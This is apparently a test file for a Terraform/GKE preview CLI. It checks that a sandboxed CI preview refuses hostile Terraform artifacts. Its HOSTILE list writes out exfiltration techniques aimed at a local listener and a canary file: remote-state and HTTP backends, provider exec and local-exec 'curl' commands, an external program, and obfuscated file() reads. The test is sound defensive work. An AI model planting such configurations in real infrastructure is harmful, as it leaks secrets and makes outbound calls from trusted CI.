import { spawn } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { FakeGitHub } from '../support/fake-github';
import { describeWithTerraform } from '../support/terraform';
import { ref, smallTree, type Tree } from './hostile/tree';

const root = path.join(__dirname, '../..');
const command = path.join(root, 'dist/lib/cli/main.js');

interface Bait {
  /** URL of the listener, with a path. */
  readonly url: string;

  /** Host and port of the listener. */
  readonly host: string;

  /** File with a secret of the machine. */
  readonly canary: string;
}

/** Trees that, when they are planned, send a request to the listener, run a program that does, or show the content of a file. */
const HOSTILE: readonly (readonly [name: string, change: (tree: Tree, bait: Bait) => void])[] = [
  ['remote-state', (tree, { url }) => Object.assign(tree.json, { data: remoteState(url) })],
  ['remote-state-in-lists', (tree, { url }) => Object.assign(tree.json, { data: [[remoteState(url)]] })],
  [
    'remote-state-in-nested-list',
    (tree, { url }) => Object.assign(tree.json, { data: { terraform_remote_state: [[{ Steal: http(url) }]] } }),
  ],
  [
    'remote-state-under-a-key-twice',
    (tree, { url }) => {
      tree.member(`"data":${JSON.stringify(remoteState(url))}`);
      tree.json.data = {};
    },
  ],
  [
    'remote-state-in-another-file',
    (tree, { url }) => tree.files.set('stacks/staging/more.tf.json', JSON.stringify({ data: remoteState(url) })),
  ],
  ['backend', (tree, { url }) => Object.assign(tree.json.terraform, { backend: { http: { address: url } } })],
  ['backend-under-a-key-twice', (tree, { url }) => tree.member(`"terraform":{"backend":{"http":{"address":${JSON.stringify(url)}}}}`)],
  ['provider-exec', (tree, { url }) => Object.assign(tree.json.provider.kubernetes[0], { exec: [exec(url)] })],
  [
    'provider-exec-in-nested-list',
    (tree, { url }) => {
      const { kubernetes } = tree.json.provider;
      tree.json.provider.kubernetes = [kubernetes, [{ alias: 'other', host: url, exec: [exec(url)] }]];
    },
  ],
  ['provider-host', (tree, { url }) => Object.assign(tree.json.provider.kubernetes[0], { host: url })],
  ['provider-endpoint', (tree, { url }) => Object.assign(tree.json.provider.google[0], { compute_custom_endpoint: url })],
  [
    'cluster-endpoint',
    (tree, { host }) =>
      Object.assign(tree.body('google_container_cluster').control_plane_endpoints_config.dns_endpoint_config, { endpoint: host }),
  ],
  ['chart-repository', (tree, { url }) => Object.assign(tree.body('helm_release'), { repository: url })],
  [
    'chart',
    (tree, { url }) => {
      tree.add('helm_release', 'Other', { chart: `${url}.tgz`, name: 'other', namespace: 'billing', provider: 'helm' });
    },
  ],
  ['data-http', (tree, { url }) => Object.assign(tree.json, { data: { http: { Steal: { url } } } })],
  ['module', (tree, { url }) => Object.assign(tree.json, { module: { Steal: { source: `${url}.zip` } } })],
  [
    'provisioner',
    (tree, { url }) => Object.assign(tree.body('terraform_data'), { provisioner: [{ 'local-exec': { command: `curl ${url}` } }] }),
  ],
  ['program', (tree, { url }) => Object.assign(tree.json, { data: { external: { Run: { program: ['curl', url] } } } })],
  ['file', (tree, { canary }) => describeRule(tree, `file("${canary}")`)],
  ['file-with-a-comment', (tree, { canary }) => describeRule(tree, `file/**/("${canary}")`)],
  ['file-with-a-line-comment', (tree, { canary }) => describeRule(tree, `file #\n("${canary}")`)],
  ['file-reversed', (tree, { canary }) => describeRule(tree, `strrev(file("${canary}"))`)],
  [
    'file-in-a-key',
    (tree, { canary }) => Object.assign(tree.body('kubernetes_config_map_v1').data, { [ref(`file/**/("${canary}")`)]: 'x' }),
  ],
  [
    'file-in-an-output',
    (tree, { canary }) => Object.assign(tree.json.output, { text: { value: ref(`nonsensitive(filebase64/**/("${canary}"))`) } }),
  ],
  ['link', (tree, { canary }) => tree.onDisk((folder) => symlinkSync(canary, path.join(folder, 'stacks/staging/assets/link')))],
];

/** Without the disk, whose creation the guard refuses. */
function plannableTree(): Tree {
  const tree = smallTree();
  delete tree.json.resource.google_compute_disk;
  tree.body('terraform_data').input = 'a note';
  return tree;
}

const http = (url: string) => ({ backend: 'http', config: { address: url } });
const remoteState = (url: string) => ({ terraform_remote_state: { Steal: http(url) } });
const exec = (url: string) => ({ api_version: 'client.authentication.k8s.io/v1beta1', command: 'curl', args: [url] });
const describeRule = (tree: Tree, expression: string) => {
  tree.body('google_compute_firewall').description = ref(expression);
};

describeWithTerraform('both halves of a preview, in the sandbox', () => {
  const secret = randomUUID();
  let folder: string;
  let github: FakeGitHub;
  let listener: Server;
  let heard: string[];
  let bait: Bait;

  beforeAll(async () => {
    folder = mkdtempSync(path.join(tmpdir(), 'hostile-'));
    for (const each of ['bin', 'heads', 'logs', 'out']) mkdirSync(path.join(folder, each));
    github = await FakeGitHub.start();
    heard = [];
    listener = createServer((request, response) => {
      heard.push(String(request.url));
      response.end('{}');
    });
    listener.on('connection', () => heard.push('a connection'));
    await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
    const host = `127.0.0.1:${(listener.address() as AddressInfo).port}`;
    bait = { host, url: `http://${host}/x`, canary: path.join(folder, 'canary') };
    writeFileSync(bait.canary, secret);
    program('npx', `[ "$1 $2" = '--no-install gke-platform' ] || exit 9\nshift 2\nexec '${process.execPath}' '${command}' "$@"`);
    program('gcloud', `for last; do :; done\nmkdir -p "${folder}/$last" && cp -r "$5" "${folder}/$last"`);
    program(
      'previews',
      `for name; do
  bash '${path.join(root, 'scripts/ci/preview.sh')}' "heads/$name" base "out/$name" >"logs/$name" 2>&1
  echo $? >"logs/$name.status"
done`,
    );
    plannableTree().write(path.join(folder, 'synthesized'));
    expect(await run(['artifact', 'pack', '--no-synth', '--out-dir', 'synthesized', '--out', 'base'])).toEqual({ status: 0, output: '' });
  });

  afterAll(async () => {
    await github.stop();
    listener.closeAllConnections();
    await new Promise((resolve) => listener.close(resolve));
    rmSync(folder, { recursive: true, force: true });
  });

  const program = (name: string, script: string): void => {
    writeFileSync(path.join(folder, 'bin', name), `#!/usr/bin/env bash\n${script}\n`);
    chmodSync(path.join(folder, 'bin', name), 0o755);
  };

  const run = (args: readonly string[]): Promise<{ status: number | null; output: string }> =>
    new Promise((resolve) => {
      const child = spawn(process.execPath, [command, ...args], {
        cwd: folder,
        env: {
          ...process.env,
          PATH: `${path.join(folder, 'bin')}:${process.env.PATH}`,
          CHECKPOINT_DISABLE: '1',
          NO_COLOR: '1',
          GITHUB_TOKEN: 'token',
          GITHUB_REPOSITORY: 'parking/infrastructure',
          GITHUB_API_URL: github.api,
          REPORT_URL: 'https://github.example/run',
          BUNDLE_BUCKET: 'bundles',
          PULL_REQUEST: '12',
          SHA: 'abc',
        },
      });
      let output = '';
      for (const stream of [child.stdout, child.stderr]) stream.setEncoding('utf8').on('data', (text: string) => (output += text));
      child.once('close', (status) => resolve({ status, output }));
    });

  /** Runs the second half for each of the artifacts, in one sandbox. */
  const preview = async (...names: readonly string[]): Promise<Record<string, string>> => {
    await run(['sandbox', '--directory', 'cloud', path.join(folder, 'bin/previews'), ...names]);
    return Object.fromEntries(names.map((name) => [name, readFileSync(path.join(folder, 'logs', `${name}.status`), 'utf8').trim()]));
  };

  const write = (name: string, change: (tree: Tree, bait: Bait) => void): void => {
    const tree = plannableTree();
    change(tree, bait);
    tree.write(path.join(folder, 'heads', name));
  };

  test('a change of the node pool gets a report and a bundle', async () => {
    const tree = plannableTree();
    tree.body('google_container_node_pool').node_config.machine_type = 'e2-standard-8';
    tree.write(path.join(folder, 'changed'));
    const packed = await run(['artifact', 'pack', '--no-synth', '--out-dir', 'changed', '--out', 'heads/benign']);
    expect(packed).toEqual({ status: 0, output: '' });
    expect([await preview('benign'), readFileSync(path.join(folder, 'logs/benign'), 'utf8')]).toEqual([
      { benign: '0' },
      expect.stringMatching(/^\| bundle /m),
    ]);
    const [digest] = readdirSync(path.join(folder, 'bundles'));
    expect(github.comments.map(({ body }) => body)).toEqual([expect.stringContaining(`sha256:${digest}`)]);
    expect(readFileSync(path.join(folder, 'out/benign/staging.md'), 'utf8')).toContain('e2-standard-8');
    expect(existsSync(path.join(folder, 'bundles', digest!, 'staging/report.md'))).toBe(true);
  });

  test('hostile artifacts are refused: no request reaches the listener, no content of a file a report, a comment or a log', async () => {
    for (const [name, change] of HOSTILE) write(name, change);
    const statuses = await preview(...HOSTILE.map(([name]) => name));
    expect(statuses).toEqual(Object.fromEntries(HOSTILE.map(([name]) => [name, '2'])));
    expect(heard).toEqual([]);
    const forms = [secret, Buffer.from(secret).toString('base64'), [...secret].reverse().join('')];
    for (const [place, text] of [...written(), ['comments', github.comments.map(({ body }) => body).join()] as const])
      for (const form of forms) expect([place, text.includes(form)]).toEqual([place, false]);
    for (const [name] of HOSTILE) expect(readFileSync(path.join(folder, 'logs', name), 'utf8')).toMatch(/^\| refused: /m);
    expect(readdirSync(path.join(folder, 'bundles'))).toHaveLength(1);
    // The comment of the plan before has lost its digest.
    expect(github.comments.map(({ body }) => body)).toEqual([expect.stringMatching(/## ⛔ staging: not planned[\s\S]*Commit `abc`\n$/)]);
    expect(github.comments[0]!.body).not.toContain('sha256:');
  });

  test('the listener hears a plan of an artifact that was not verified', async () => {
    write('remote-state', HOSTILE[0]![1]);
    await run([
      'sandbox',
      '--directory',
      'cloud',
      path.join(folder, 'bin/npx'),
      '--no-install',
      'gke-platform',
      'preview',
      'staging',
      ...['--no-synth', '--out-dir', 'heads/remote-state', '--no-bundle'],
    ]);
    expect(heard).toContain('/x');
  });

  const written = (): (readonly [string, string])[] =>
    ['logs', 'out', 'bundles'].flatMap((below) =>
      readdirSync(path.join(folder, below), { recursive: true, withFileTypes: true })
        .filter((entry) => entry.isFile())
        .map((entry) => path.join(entry.parentPath, entry.name))
        .map((file) => [path.relative(folder, file), readFileSync(file, 'latin1')] as const),
    );
});
